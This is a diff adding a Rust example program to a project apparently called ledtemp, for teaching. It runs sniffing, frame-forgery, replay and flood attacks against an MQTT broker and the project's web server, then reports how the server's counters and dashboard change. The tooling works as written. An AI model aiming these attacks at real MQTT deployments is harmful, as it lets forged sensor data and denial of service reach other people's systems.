@@ -1,0 +1,816 @@
+//! The attacks ledtemp is built to stop, runnable against a broker and a `ledtemp-web` server, for
+//! teaching: run them against `ledtemp-web demo` (every attack refused and counted, the dashboard
+//! unchanged), then against `ledtemp-web demo --insecure-plaintext` (the same attacks succeed).
+//! `docs/attacks.md` walks through a run.
+//!
+//! ```text
+//! cargo run --example attack -- --broker 127.0.0.1:1883 sniff --seconds 5
+//! cargo run --example attack -- poison
+//! cargo run --example attack -- replay --record frames.jsonl --seconds 10
+//! cargo run --example attack -- replay --play frames.jsonl
+//! cargo run --example attack -- flood --devices 2000
+//! ```
+//!
+//! Each attack prints what it did, then the server's counters before and after (`GET /api/stats`)
+//! and what changed on the dashboard (`GET /api/devices`), and ends with one `summary: {json}`
+//! line for scripts (the tests in `tests/attack.rs` read it).
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::hash::{BuildHasher, Hasher};
+use std::io::{BufRead, Write};
+use std::path::{Path, PathBuf};
+use std::process::ExitCode;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use clap::{Parser, Subcommand};
+use ledtemp_core::{
+    Algorithm, AnyCodec, Codec, DeviceId, FrameHeader, HEADER_LEN, InsecurePlaintextCodec, KeyId,
+    LedState, MAX_FRAME_LEN, Message, MilliCelsius, NodeStatus, SensorName, SequenceNumber,
+    TemperatureReading, Topic, Uptime,
+};
+use rumqttc::v5::mqttbytes::QoS;
+use rumqttc::v5::mqttbytes::v5::Packet;
+use rumqttc::v5::{AsyncClient, Event, MqttOptions};
+use serde_json::{Value, json};
+use tokio::sync::mpsc;
+
+/// The temperature every forged reading carries, so that it is easy to spot on the dashboard.
+const FORGED_MILLI_CELSIUS: i32 = 66_600;
+
+/// Device id of the "frame for an unknown device".
+const INTRUDER: &str = "intruder";
+
+/// Prefix of the device ids `flood` invents.
+const FLOOD_PREFIX: &str = "flood-";
+
+/// Bytes of each oversized payload: more than a frame can be, less than the server's MQTT packet
+/// limit (so that it reaches the pipeline and is counted).
+const OVERSIZE_LEN: usize = 1_000;
+
+/// Attacks on a ledtemp deployment: sniff, poison, replay, flood.
+#[derive(Debug, Parser)]
+#[command(name = "attack")]
+struct Cli {
+    /// The MQTT broker, HOST:PORT.
+    #[arg(
+        long,
+        env = "LEDTEMP_BROKER",
+        default_value = "127.0.0.1:1883",
+        value_name = "HOST:PORT"
+    )]
+    broker: String,
+    /// The ledtemp-web server whose counters and dashboard are read.
+    #[arg(long, default_value = "http://127.0.0.1:8080", value_name = "URL")]
+    server: String,
+    /// API token, sent as `Authorization: Bearer`, if the server asks for one.
+    #[arg(long, env = "LEDTEMP_TOKEN", hide_env_values = true)]
+    token: Option<String>,
+    /// Seconds to wait after publishing before reading the counters again.
+    #[arg(long, default_value_t = 1.5)]
+    settle: f64,
+    #[command(subcommand)]
+    attack: Attack,
+}
+
+#[derive(Debug, Subcommand)]
+enum Attack {
+    /// Subscribe to `#` and print what can be read of every message.
+    Sniff {
+        /// How long to listen.
+        #[arg(long, default_value_t = 5)]
+        seconds: u64,
+    },
+    /// Publish forged readings: a frame sealed with a guessed key, a plaintext frame, a genuine
+    /// frame with one byte flipped, a genuine frame moved to another topic and to another device,
+    /// and a frame of a device the server does not know.
+    Poison {
+        /// Forge frames of this device (default: whichever device publishes first).
+        #[arg(long)]
+        device: Option<String>,
+        /// How long to wait for a genuine temperature frame to start from.
+        #[arg(long, default_value_t = 15)]
+        wait: u64,
+    },
+    /// Record genuine frames to a file, or publish a recording again.
+    Replay {
+        /// Record every ledtemp frame to FILE (JSON lines: topic and hex payload).
+        #[arg(
+            long,
+            value_name = "FILE",
+            conflicts_with = "play",
+            required_unless_present = "play"
+        )]
+        record: Option<PathBuf>,
+        /// With --record: how long to record.
+        #[arg(long, default_value_t = 10)]
+        seconds: u64,
+        /// Publish every frame of FILE again, in order.
+        #[arg(long, value_name = "FILE")]
+        play: Option<PathBuf>,
+    },
+    /// Publish junk, oversized payloads and frames of many invented devices, then check that the
+    /// server is healthy and still accepts the genuine nodes' frames.
+    Flood {
+        /// Junk payloads (random bytes, not frames).
+        #[arg(long, default_value_t = 200)]
+        junk: u32,
+        /// Oversized payloads (1000 bytes).
+        #[arg(long, default_value_t = 20)]
+        oversize: u32,
+        /// Invented device ids, one plaintext reading each.
+        #[arg(long, default_value_t = 100)]
+        devices: u32,
+        /// Messages per second at most.
+        #[arg(long, default_value_t = 2_000)]
+        rate: u32,
+        /// How long to wait for a genuine frame to be accepted after the flood.
+        #[arg(long, default_value_t = 15)]
+        wait: u64,
+    },
+}
+
+/// Any failure; the attack stops and the message is printed.
+#[derive(Debug)]
+struct AttackError(String);
+
+impl<E: std::fmt::Display> From<E> for AttackError {
+    fn from(error: E) -> Self {
+        AttackError(error.to_string())
+    }
+}
+
+type Result<T, E = AttackError> = std::result::Result<T, E>;
+
+fn main() -> ExitCode {
+    let cli = Cli::parse();
+    let runtime = match tokio::runtime::Builder::new_multi_thread().enable_all().build() {
+        Ok(runtime) => runtime,
+        Err(error) => {
+            eprintln!("attack: cannot start the runtime: {error}");
+            return ExitCode::FAILURE;
+        }
+    };
+    match runtime.block_on(run(cli)) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(AttackError(message)) => {
+            eprintln!("attack: {message}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+async fn run(cli: Cli) -> Result<()> {
+    let api = Api::new(&cli.server, cli.token.clone())?;
+    let broker = parse_broker(&cli.broker)?;
+    let settle = Duration::from_secs_f64(cli.settle.max(0.0));
+    let before = Observation::take(&api).await?;
+    let mut summary = match cli.attack {
+        Attack::Sniff { seconds } => sniff(&broker, Duration::from_secs(seconds)).await?,
+        Attack::Poison { device, wait } => {
+            poison(&broker, &before, device.as_deref(), Duration::from_secs(wait)).await?
+        }
+        Attack::Replay { record: Some(file), seconds, .. } => {
+            record(&broker, &file, Duration::from_secs(seconds)).await?
+        }
+        Attack::Replay { play: Some(file), .. } => play(&broker, &file).await?,
+        Attack::Replay { .. } => return Err(AttackError("give --record or --play".into())),
+        Attack::Flood { junk, oversize, devices, rate, wait } => {
+            let flood = Flood { junk, oversize, devices, rate };
+            flood.run(&broker, &api, &before, settle, Duration::from_secs(wait)).await?
+        }
+    };
+    tokio::time::sleep(settle).await;
+    let after = Observation::take(&api).await?;
+    let report = before.compare(&after);
+    report.print(before.insecure(), after.insecure());
+    if let Value::Object(fields) = &mut summary {
+        fields.insert("stats_delta".into(), report.delta.clone());
+        fields.insert("dashboard_changes".into(), json!(report.changes));
+        fields.insert("insecure_plaintext".into(), json!(after.insecure()));
+    }
+    println!("summary: {summary}");
+    Ok(())
+}
+
+// ---- the attacks ----
+
+async fn sniff(broker: &(String, u16), duration: Duration) -> Result<Value> {
+    println!("sniff: subscribed to '#' on {}:{} for {} s", broker.0, broker.1, duration.as_secs());
+    let mut mqtt = Mqtt::connect(broker, "sniff", Some("#")).await?;
+    let (mut total, mut readable) = (0usize, 0usize);
+    let mut read_values = Vec::new();
+    let deadline = tokio::time::Instant::now() + duration;
+    while let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await {
+        total += 1;
+        let reading = read_frame(&topic, &payload);
+        if let Reading::Plaintext(text) = &reading {
+            readable += 1;
+            read_values.push(format!("{topic}: {text}"));
+        }
+        println!("  {topic:<40} {:>4} B  {reading}", payload.len());
+    }
+    println!("sniff: readable {readable} of {total} messages");
+    Ok(json!({ "attack": "sniff", "total": total, "readable": readable, "read": read_values }))
+}
+
+async fn poison(
+    broker: &(String, u16),
+    before: &Observation,
+    device: Option<&str>,
+    wait: Duration,
+) -> Result<Value> {
+    let filter = format!("ledtemp/{}/temp/+", device.unwrap_or("+"));
+    println!("poison: waiting up to {} s for a genuine frame on {filter}", wait.as_secs());
+    let mut mqtt = Mqtt::connect(broker, "poison", Some(&filter)).await?;
+    let (topic, genuine) =
+        tokio::time::timeout(wait, mqtt.next()).await.ok().flatten().ok_or_else(|| {
+            AttackError(format!("no frame on {filter} within {} s", wait.as_secs()))
+        })?;
+    let parsed = Topic::parse(&topic)?;
+    let (victim, sensor) = match &parsed {
+        Topic::Temperature { device, sensor } => (device.clone(), sensor.clone()),
+        _ => return Err(AttackError(format!("{topic} is not a temperature topic"))),
+    };
+    let header =
+        FrameHeader::parse(&genuine).or_else(|_| InsecurePlaintextCodec::parse_header(&genuine))?;
+    let plaintext_target = InsecurePlaintextCodec::new(KeyId(0)).open(&parsed, &genuine).is_ok();
+    println!(
+        "poison: captured {} B on {topic} ({}); forging readings of {FORGED_C} °C",
+        genuine.len(),
+        if plaintext_target { "readable: the target takes plaintext" } else { "sealed" },
+    );
+    let forged = Message::Temperature(TemperatureReading {
+        sensor: sensor.clone(),
+        temperature: MilliCelsius(FORGED_MILLI_CELSIUS),
+        uptime: Uptime(0),
+    });
+    // Ahead of the genuine numbers, as a forger would pick them to push the window forward.
+    let sequence = SequenceNumber::new(header.sequence.get().saturating_add(1_000))?;
+    let guessed = AnyCodec::new(Algorithm::Aes128Gcm, header.key_id, &random_bytes::<16>())?;
+    let plain = InsecurePlaintextCodec::new(header.key_id);
+    let mut flipped = genuine.clone();
+    // The third byte of the temperature: a change of 65.536 °C if anybody reads it.
+    if let Some(byte) = flipped.get_mut(HEADER_LEN + 2) {
+        *byte ^= 0x01;
+    }
+    let neighbour = before
+        .device_ids()
+        .into_iter()
+        .find(|id| id != victim.as_str() && id != INTRUDER)
+        .unwrap_or_else(|| "neighbour".to_owned());
+    let intruder = DeviceId::new(INTRUDER)?;
+    let intruder_frame = if plaintext_target {
+        seal(&plain, &intruder, sequence, &forged)?
+    } else {
+        seal(&guessed, &intruder, sequence, &forged)?
+    };
+    let forgeries = [
+        ("sealed with a guessed key", topic.clone(), seal(&guessed, &victim, sequence, &forged)?),
+        ("plaintext frame", topic.clone(), seal(&plain, &victim, sequence, &forged)?),
+        ("genuine frame, one byte flipped", topic.clone(), flipped),
+        (
+            "genuine frame moved to another topic",
+            format!("ledtemp/{victim}/temp/moved"),
+            genuine.clone(),
+        ),
+        (
+            "genuine frame moved to another device",
+            format!("ledtemp/{neighbour}/temp/{sensor}"),
+            genuine.clone(),
+        ),
+        (
+            "frame of an unknown device",
+            forged.topic(&intruder).to_topic_string().as_str().to_owned(),
+            intruder_frame,
+        ),
+    ];
+    for (what, topic, payload) in &forgeries {
+        mqtt.publish(topic, payload.clone()).await?;
+        println!("  published {what:<38} {:>4} B on {topic}", payload.len());
+    }
+    mqtt.flush().await?;
+    Ok(json!({ "attack": "poison", "sent": forgeries.len(), "victim": victim.as_str() }))
+}
+
+/// One recorded message.
+#[derive(Debug, serde::Serialize, serde::Deserialize)]
+struct Recorded {
+    topic: String,
+    /// The payload, hex.
+    payload: String,
+}
+
+async fn record(broker: &(String, u16), file: &Path, duration: Duration) -> Result<Value> {
+    println!("replay: recording ledtemp/# for {} s to {}", duration.as_secs(), file.display());
+    let mut mqtt = Mqtt::connect(broker, "record", Some("ledtemp/#")).await?;
+    let mut out = std::io::BufWriter::new(std::fs::File::create(file)?);
+    let mut count = 0usize;
+    let deadline = tokio::time::Instant::now() + duration;
+    while let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await {
+        let line = serde_json::to_string(&Recorded { topic, payload: hex::encode(payload) })?;
+        writeln!(out, "{line}")?;
+        count += 1;
+    }
+    out.flush()?;
+    println!("replay: recorded {count} frames (play them with --play {})", file.display());
+    Ok(json!({ "attack": "record", "recorded": count }))
+}
+
+async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
+    let reader = std::io::BufReader::new(std::fs::File::open(file)?);
+    let mut frames = Vec::new();
+    for line in reader.lines() {
+        let line = line?;
+        if line.trim().is_empty() {
+            continue;
+        }
+        let recorded: Recorded = serde_json::from_str(&line)?;
+        frames.push((recorded.topic, hex::decode(recorded.payload)?));
+    }
+    println!("replay: publishing {} recorded frames from {} again", frames.len(), file.display());
+    let mut mqtt = Mqtt::connect(broker, "replay", None).await?;
+    for (topic, payload) in &frames {
+        mqtt.publish(topic, payload.clone()).await?;
+    }
+    mqtt.flush().await?;
+    Ok(json!({ "attack": "replay", "sent": frames.len() }))
+}
+
+/// What `flood` sends.
+struct Flood {
+    junk: u32,
+    oversize: u32,
+    devices: u32,
+    rate: u32,
+}
+
+impl Flood {
+    async fn run(
+        &self,
+        broker: &(String, u16),
+        api: &Api,
+        before: &Observation,
+        settle: Duration,
+        wait: Duration,
+    ) -> Result<Value> {
+        let genuine: Vec<String> = before.device_ids();
+        let target = genuine.first().cloned().unwrap_or_else(|| "kitchen-pi".to_owned());
+        let mut messages = Vec::new();
+        for i in 0..self.junk {
+            // Version byte 0, then noise: not a frame, whatever the codec.
+            let mut junk = random_bytes::<48>().to_vec();
+            junk.truncate(1 + (i as usize % 47));
+            if let Some(first) = junk.first_mut() {
+                *first = 0;
+            }
+            messages.push((format!("ledtemp/{target}/status"), junk));
+        }
+        for _ in 0..self.oversize {
+            messages.push((format!("ledtemp/{target}/temp/x"), vec![0x01; OVERSIZE_LEN]));
+        }
+        let plain = InsecurePlaintextCodec::new(KeyId(1));
+        let reading = Message::Temperature(TemperatureReading {
+            sensor: SensorName::new("t")?,
+            temperature: MilliCelsius(FORGED_MILLI_CELSIUS),
+            uptime: Uptime(0),
+        });
+        for i in 0..self.devices {
+            let device = DeviceId::new(&format!("{FLOOD_PREFIX}{i:05}"))?;
+            let topic = reading.topic(&device).to_topic_string().as_str().to_owned();
+            messages.push((topic, seal(&plain, &device, SequenceNumber::new(0)?, &reading)?));
+        }
+        println!(
+            "flood: {} junk payloads, {} of {OVERSIZE_LEN} B, {} frames of invented devices \
+             ({FLOOD_PREFIX}00000...), at most {} per second",
+            self.junk, self.oversize, self.devices, self.rate
+        );
+        let mut mqtt = Mqtt::connect(broker, "flood", None).await?;
+        let started = std::time::Instant::now();
+        let mut tick =
+            tokio::time::interval(Duration::from_secs_f64(1.0 / f64::from(self.rate.max(1))));
+        tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
+        for (topic, payload) in &messages {
+            tick.tick().await;
+            mqtt.publish(topic, payload.clone()).await?;
+        }
+        mqtt.flush().await?;
+        println!(
+            "flood: {} messages published in {:.1} s",
+            messages.len(),
+            started.elapsed().as_secs_f64()
+        );
+        tokio::time::sleep(settle).await;
+        let health = api.healthz().await?;
+        println!("flood: GET /healthz -> {health}");
+        // A genuine device whose last_seen moves on has had a frame accepted after the flood.
+        let after_flood = Observation::take(api).await?;
+        let deadline = tokio::time::Instant::now() + wait;
+        let mut still_accepted = None;
+        while tokio::time::Instant::now() < deadline {
+            let now = Observation::take(api).await?;
+            still_accepted = genuine.iter().find(|id| {
+                !id.starts_with(FLOOD_PREFIX)
+                    && now.last_seen(id).is_some()
+                    && now.last_seen(id) != after_flood.last_seen(id)
+            });
+            if still_accepted.is_some() {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(250)).await;
+        }
+        match still_accepted {
+            Some(id) => println!("flood: genuine device {id} is still accepted after the flood"),
+            None => println!(
+                "flood: no genuine frame accepted within {} s after the flood",
+                wait.as_secs()
+            ),
+        }
+        Ok(json!({
+            "attack": "flood",
+            "sent": messages.len(),
+            "healthz": health,
+            "genuine_accepted_after": still_accepted.is_some(),
+        }))
+    }
+}
+
+// ---- reading frames as an eavesdropper ----
+
+/// What an eavesdropper makes of one message.
+enum Reading {
+    /// Read in full.
+    Plaintext(String),
+    /// Only the clear-text header: sealed.
+    Sealed { key_id: u8, sequence: u64 },
+    /// Not a ledtemp frame at all.
+    Unreadable(&'static str),
+}
+
+impl std::fmt::Display for Reading {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Reading::Plaintext(text) => write!(f, "PLAINTEXT: {text}"),
+            Reading::Sealed { key_id, sequence } => {
+                write!(f, "sealed: key id {key_id}, sequence {sequence}; content unreadable")
+            }
+            Reading::Unreadable(why) => write!(f, "unreadable: {why}"),
+        }
+    }
+}
+
+fn read_frame(topic: &str, payload: &[u8]) -> Reading {
+    let Ok(parsed) = Topic::parse(topic) else { return Reading::Unreadable("not a ledtemp topic") };
+    if let Ok(opened) = InsecurePlaintextCodec::new(KeyId(0)).open(&parsed, payload) {
+        let sequence = opened.header.sequence.get();
+        return Reading::Plaintext(format!("{} (sequence {sequence})", describe(&opened.message)));
+    }
+    match FrameHeader::parse(payload) {
+        Ok(header) => Reading::Sealed { key_id: header.key_id.0, sequence: header.sequence.get() },
+        Err(_) => Reading::Unreadable("not a frame"),
+    }
+}
+
+fn describe(message: &Message) -> String {
+    let state = |state: LedState| if state.is_on() { "ON" } else { "OFF" };
+    match message {
+        Message::Led(change) => format!("LED {} {}", change.led, state(change.state)),
+        Message::Temperature(reading) => {
+            format!("temperature {} = {:.3} °C", reading.sensor, reading.temperature.to_celsius())
+        }
+        Message::Status(report) => match &report.status {
+            NodeStatus::Online { leds } => {
+                let leds: Vec<String> =
+                    leds.iter().map(|l| format!("{} {}", l.led, state(l.state))).collect();
+                format!("online, LEDs: {}", leds.join(", "))
+            }
+            NodeStatus::Offline => "offline".to_owned(),
+        },
+    }
+}
+
+fn seal(
+    codec: &impl Codec,
+    device: &DeviceId,
+    sequence: SequenceNumber,
+    message: &Message,
+) -> Result<Vec<u8>> {
+    let mut buf = [0u8; MAX_FRAME_LEN];
+    let len = codec.seal(device, sequence, message, &mut buf)?;
+    Ok(buf.get(..len).unwrap_or_default().to_vec())
+}
+
+/// Unpredictable enough for a guessed key and junk (this is an attack demo, not key generation).
+fn random_bytes<const N: usize>() -> [u8; N] {
+    let mut out = [0u8; N];
+    for chunk in out.chunks_mut(8) {
+        let mut hasher = std::collections::hash_map::RandomState::new().build_hasher();
+        hasher.write_u128(
+            std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .map_or(0, |d| d.as_nanos()),
+        );
+        let bytes = hasher.finish().to_le_bytes();
+        chunk.copy_from_slice(bytes.get(..chunk.len()).unwrap_or_default());
+    }
+    out
+}
+
+const FORGED_C: f64 = FORGED_MILLI_CELSIUS as f64 / 1000.0;
+
+// ---- MQTT ----
+
+fn parse_broker(text: &str) -> Result<(String, u16)> {
+    let (host, port) = text
+        .rsplit_once(':')
+        .ok_or_else(|| AttackError(format!("--broker {text:?}: expected HOST:PORT")))?;
+    let port = port.parse().map_err(|_| AttackError(format!("--broker {text:?}: bad port")))?;
+    Ok((host.trim_start_matches('[').trim_end_matches(']').to_owned(), port))
+}
+
+/// An MQTT v5 client that publishes raw bytes and hands over what it receives.
+struct Mqtt {
+    client: AsyncClient,
+    received: mpsc::UnboundedReceiver<(String, Vec<u8>)>,
+    task: tokio::task::JoinHandle<()>,
+    /// Publishes handed to the client, and PUBACKs from the broker.
+    published: usize,
+    acked: Arc<AtomicUsize>,
+}
+
+impl Mqtt {
+    /// Connects (and subscribes to `filter`); returns once the broker acknowledged.
+    async fn connect(broker: &(String, u16), role: &str, filter: Option<&str>) -> Result<Mqtt> {
+        let id = format!("ledtemp-attack-{role}-{}", std::process::id());
+        let mut options = MqttOptions::new(id, broker.0.clone(), broker.1);
+        options.set_keep_alive(Duration::from_secs(15));
+        let (client, mut events) = AsyncClient::new(options, 256);
+        let (tx, received) = mpsc::unbounded_channel();
+        let (ready_tx, ready) = tokio::sync::oneshot::channel::<Result<(), String>>();
+        let subscriber = client.clone();
+        let filter = filter.map(str::to_owned);
+        let acked = Arc::new(AtomicUsize::new(0));
+        let acks = Arc::clone(&acked);
+        let task = tokio::spawn(async move {
+            let mut ready_tx = Some(ready_tx);
+            loop {
+                match events.poll().await {
+                    Ok(Event::Incoming(Packet::ConnAck(_))) => match &filter {
+                        Some(filter) => {
+                            let _ = subscriber.subscribe(filter.clone(), QoS::AtLeastOnce).await;
+                        }
+                        None => {
+                            if let Some(ready) = ready_tx.take() {
+                                let _ = ready.send(Ok(()));
+                            }
+                        }
+                    },
+                    Ok(Event::Incoming(Packet::SubAck(_))) => {
+                        if let Some(ready) = ready_tx.take() {
+                            let _ = ready.send(Ok(()));
+                        }
+                    }
+                    Ok(Event::Incoming(Packet::Publish(publish))) => {
+                        let topic = String::from_utf8_lossy(&publish.topic).into_owned();
+                        let _ = tx.send((topic, publish.payload.to_vec()));
+                    }
+                    Ok(Event::Incoming(Packet::PubAck(_))) => {
+                        acks.fetch_add(1, Ordering::SeqCst);
+                    }
+                    Ok(_) => {}
+                    Err(error) => {
+                        if let Some(ready) = ready_tx.take() {
+                            let _ = ready.send(Err(error.to_string()));
+                            return;
+                        }
+                        tokio::time::sleep(Duration::from_millis(200)).await;
+                    }
+                }
+            }
+        });
+        match tokio::time::timeout(Duration::from_secs(10), ready).await {
+            Ok(Ok(Ok(()))) => Ok(Mqtt { client, received, task, published: 0, acked }),
+            Ok(Ok(Err(error))) => {
+                Err(AttackError(format!("broker {}:{}: {error}", broker.0, broker.1)))
+            }
+            _ => Err(AttackError(format!("broker {}:{} did not answer", broker.0, broker.1))),
+        }
+    }
+
+    async fn next(&mut self) -> Option<(String, Vec<u8>)> {
+        self.received.recv().await
+    }
+
+    /// Hands one QoS 1 message to the client; [`Mqtt::flush`] waits until it reached the broker.
+    async fn publish(&mut self, topic: &str, payload: Vec<u8>) -> Result<()> {
+        self.client.publish(topic, QoS::AtLeastOnce, false, payload).await?;
+        self.published += 1;
+        Ok(())
+    }
+
+    /// Waits (at most 10 s) until the broker acknowledged every message published so far.
+    async fn flush(&self) -> Result<()> {
+        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
+        while self.acked.load(Ordering::SeqCst) < self.published {
+            if tokio::time::Instant::now() >= deadline {
+                return Err(AttackError("the broker did not acknowledge every message".into()));
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        Ok(())
+    }
+}
+
+impl Drop for Mqtt {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+// ---- the server's view ----
+
+struct Api {
+    client: reqwest::Client,
+    base: String,
+    token: Option<String>,
+}
+
+impl Api {
+    fn new(base: &str, token: Option<String>) -> Result<Api> {
+        let client = reqwest::Client::builder().timeout(Duration::from_secs(10)).build()?;
+        Ok(Api { client, base: base.trim_end_matches('/').to_owned(), token })
+    }
+
+    fn get(&self, path: &str) -> reqwest::RequestBuilder {
+        let request = self.client.get(format!("{}{path}", self.base));
+        match &self.token {
+            Some(token) => request.bearer_auth(token),
+            None => request,
+        }
+    }
+
+    async fn json(&self, path: &str) -> Result<Value> {
+        let response = self.get(path).send().await?;
+        let status = response.status();
+        if !status.is_success() {
+            return Err(AttackError(format!("GET {path}: {status} (a token needed? --token)")));
+        }
+        Ok(response.json().await?)
+    }
+
+    async fn healthz(&self) -> Result<u16> {
+        Ok(self.get("/healthz").send().await?.status().as_u16())
+    }
+}
+
+/// The server's counters and devices at one moment.
+struct Observation {
+    stats: Value,
+    devices: Value,
+}
+
+/// What changed between two observations.
+struct Report {
+    /// Counter increases: `accepted` and `rejected.<reason>`.
+    delta: Value,
+    rows: Vec<(String, u64, u64)>,
+    /// Changes an attacker made to what the dashboard shows.
+    changes: Vec<String>,
+}
+
+impl Observation {
+    async fn take(api: &Api) -> Result<Observation> {
+        Ok(Observation {
+            stats: api.json("/api/stats").await?,
+            devices: api.json("/api/devices").await?,
+        })
+    }
+
+    fn insecure(&self) -> bool {
+        self.stats["insecure_plaintext"].as_bool() == Some(true)
+    }
+
+    fn device_ids(&self) -> Vec<String> {
+        self.devices
+            .as_array()
+            .map(|all| all.iter().filter_map(|d| d["id"].as_str().map(str::to_owned)).collect())
+            .unwrap_or_default()
+    }
+
+    fn last_seen(&self, id: &str) -> Option<String> {
+        self.device(id).and_then(|d| d["last_seen"].as_str().map(str::to_owned))
+    }
+
+    fn device(&self, id: &str) -> Option<&Value> {
+        self.devices.as_array()?.iter().find(|d| d["id"].as_str() == Some(id))
+    }
+
+    /// (device, "led"/"sensor", name) of everything shown.
+    fn names(&self) -> BTreeSet<(String, &'static str, String)> {
+        let mut names = BTreeSet::new();
+        for device in self.devices.as_array().into_iter().flatten() {
+            let id = device["id"].as_str().unwrap_or_default().to_owned();
+            for (list, kind, field) in
+                [("leds", "LED", "led"), ("temperatures", "sensor", "sensor")]
+            {
+                for item in device[list].as_array().into_iter().flatten() {
+                    names.insert((
+                        id.clone(),
+                        kind,
+                        item[field].as_str().unwrap_or_default().to_owned(),
+                    ));
+                }
+            }
+        }
+        names
+    }
+
+    /// (device, sensor) of every reading that shows the forged temperature.
+    fn forged_readings(&self) -> BTreeSet<(String, String)> {
+        let mut forged = BTreeSet::new();
+        for device in self.devices.as_array().into_iter().flatten() {
+            for reading in device["temperatures"].as_array().into_iter().flatten() {
+                let celsius = reading["celsius"].as_f64().unwrap_or(f64::NAN);
+                if (celsius - FORGED_C).abs() < 0.0005 {
+                    let id = device["id"].as_str().unwrap_or_default().to_owned();
+                    forged.insert((id, reading["sensor"].as_str().unwrap_or_default().to_owned()));
+                }
+            }
+        }
+        forged
+    }
+
+    fn counters(&self) -> BTreeMap<String, u64> {
+        let mut counters = BTreeMap::new();
+        counters.insert("accepted".to_owned(), self.stats["accepted"].as_u64().unwrap_or(0));
+        if let Some(rejected) = self.stats["rejected"].as_object() {
+            for (reason, count) in rejected {
+                counters.insert(format!("rejected.{reason}"), count.as_u64().unwrap_or(0));
+            }
+        }
+        counters
+    }
+
+    fn compare(&self, after: &Observation) -> Report {
+        let (old, new) = (self.counters(), after.counters());
+        let rows: Vec<(String, u64, u64)> = new
+            .iter()
+            .map(|(name, &n)| (name.clone(), old.get(name).copied().unwrap_or(0), n))
+            .collect();
+        let delta: serde_json::Map<String, Value> =
+            rows.iter().map(|(name, a, b)| (name.clone(), json!(b.saturating_sub(*a)))).collect();
+        let mut changes = Vec::new();
+        let known: BTreeSet<String> = self.device_ids().into_iter().collect();
+        let added: Vec<String> =
+            after.device_ids().into_iter().filter(|id| !known.contains(id)).collect();
+        if !added.is_empty() {
+            let shown: Vec<&str> = added.iter().take(5).map(String::as_str).collect();
+            let more = if added.len() > 5 {
+                format!(" and {} more", added.len() - 5)
+            } else {
+                String::new()
+            };
+            changes.push(format!("new devices ({}): {}{more}", added.len(), shown.join(", ")));
+        }
+        let old_names = self.names();
+        let old_forged = self.forged_readings();
+        for (id, sensor) in after.forged_readings().difference(&old_forged) {
+            // New devices are reported above.
+            if !known.contains(id) {
+                continue;
+            }
+            changes.push(format!("{id}/{sensor} shows {FORGED_C:.3} °C, the forged value"));
+        }
+        for (device, kind, name) in after.names().difference(&old_names) {
+            if known.contains(device) {
+                changes.push(format!("new {kind} {name} on {device}"));
+            }
+        }
+        Report { delta: Value::Object(delta), rows, changes }
+    }
+}
+
+impl Report {
+    fn print(&self, was_insecure: bool, is_insecure: bool) {
+        if was_insecure || is_insecure {
+            println!(
+                "server: INSECURE PLAINTEXT MODE (no encryption, no authentication, no replay protection)"
+            );
+        }
+        println!("server counters (GET /api/stats; the genuine nodes' frames count too):");
+        for (name, before, after) in &self.rows {
+            let change = after.saturating_sub(*before);
+            let mark = if change > 0 { format!("+{change}") } else { String::new() };
+            println!("  {name:<24} {before:>8} -> {after:>8}  {mark}");
+        }
+        if self.changes.is_empty() {
+            println!("dashboard (GET /api/devices): nothing the attacker sent is shown");
+        } else {
+            println!("dashboard (GET /api/devices): CHANGED by the attacker:");
+            for change in &self.changes {
+                println!("  {change}");
+            }
+        }
+    }
+}
